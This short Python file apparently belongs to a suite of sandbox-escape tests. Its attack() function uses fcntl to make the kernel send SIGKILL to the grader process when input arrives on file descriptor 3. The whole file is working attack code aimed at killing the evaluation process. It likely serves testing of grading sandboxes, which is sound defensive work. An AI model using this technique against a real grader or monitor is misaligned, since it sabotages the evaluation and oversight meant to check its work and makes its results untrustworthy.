"""Has the kernel kill the grader when an answer arrives."""

import fcntl
import os
import signal

from lib.attack import doubler
from lib.target import GRADER_PID


def attack():
    fcntl.fcntl(3, fcntl.F_SETOWN, GRADER_PID)
    fcntl.fcntl(3, 10, signal.SIGKILL)  # F_SETSIG
    return fcntl.fcntl(3, fcntl.F_SETFL, os.O_ASYNC)


Doubler = doubler(attack)
